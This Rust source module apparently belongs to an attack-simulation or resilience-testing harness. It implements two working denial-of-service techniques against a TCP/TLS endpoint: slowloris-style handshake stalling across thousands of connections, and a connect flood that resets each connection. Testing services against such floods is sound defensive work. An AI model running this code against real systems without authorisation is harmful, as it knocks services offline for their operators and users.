//! The attackers without a certificate, and the pod that floods: TCP connections.

use std::cell::RefCell;
use std::io;
use std::rc::Rc;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio::time::{Instant, MissedTickBehavior, interval, timeout, timeout_at};

use super::kinds::Attack;
use super::strike::{Done, Pace, Strike};

/// Connections that are slow at one time.
const SLOW: usize = 3_000;
/// Between two bytes of a slow one.
const EVERY: Duration = Duration::from_secs(1);
/// Connects under way at one time.
const CONNECTING: usize = 256;
/// How long one may take.
const PATIENCE: Duration = Duration::from_secs(1);

/// How a ClientHello begins: a record of 512 bytes with a message of 508.
const HELLO: [u8; 11] = [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3];

/// Connections that never come to the end of their handshake; those that are closed are opened again.
pub(super) async fn slow(strike: &Strike, until: Instant) -> Done {
    paced(strike, until, SLOW, |to, number| async move {
        let mut stream = timeout(PATIENCE, TcpStream::connect(to)).await??;
        // Every second one says nothing at all.
        let hello: &[u8] = if number % 2 == 0 { &HELLO } else { &[] };
        let mut byte = [0];
        for next in hello {
            stream.write_all(std::slice::from_ref(next)).await?;
            if let Ok(read) = timeout(EVERY, stream.read(&mut byte)).await {
                return read.map(|_| true);
            }
        }
        timeout_at(until, stream.read(&mut byte)).await.map_or(Ok(false), |read| read.map(|_| true))
    })
    .await
}

/// Connections that end as soon as they are there: from the outside with a reset, from a pod as anybody closes one.
pub(super) async fn flood(strike: &Strike, until: Instant) -> Done {
    let reset = strike.attack == Attack::ConnectFlood;
    paced(strike, until, CONNECTING, move |to, _| async move {
        let stream = timeout(PATIENCE, TcpStream::connect(to)).await??;
        if reset {
            socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO))?;
        }
        drop(stream);
        Ok(false)
    })
    .await
}

/// Begins one after the other at the pace, so many at one time; each tells whether the other side ended it.
async fn paced<F, Fut>(strike: &Strike, until: Instant, most: usize, one: F) -> Done
where
    F: Fn(std::net::SocketAddr, u64) -> Fut,
    Fut: Future<Output = io::Result<bool>> + 'static,
{
    let done = Rc::new(RefCell::new(Done::default()));
    let places = Arc::new(Semaphore::new(most));
    let mut pace = Pace::new(f64::from(strike.rate()));
    let mut tick = interval(Duration::from_millis(1));
    tick.set_missed_tick_behavior(MissedTickBehavior::Skip);
    while Instant::now() < until {
        tick.tick().await;
        for _ in 0..pace.due() {
            let Ok(place) = places.clone().try_acquire_owned() else { break };
            let number = done.borrow().steps;
            done.borrow_mut().steps += 1;
            let (connection, done) = (one(strike.connect, number), done.clone());
            tokio::task::spawn_local(async move {
                let outcome = connection.await;
                let mut done = done.borrow_mut();
                match outcome {
                    Ok(ended) => {
                        done.opened += 1;
                        done.ended += u64::from(ended);
                    }
                    Err(error) if error.kind() == io::ErrorKind::ConnectionReset => {
                        done.opened += 1;
                        done.ended += 1;
                    }
                    Err(_) => done.refused += 1,
                }
                drop(place);
            });
        }
    }
    done.take()
}
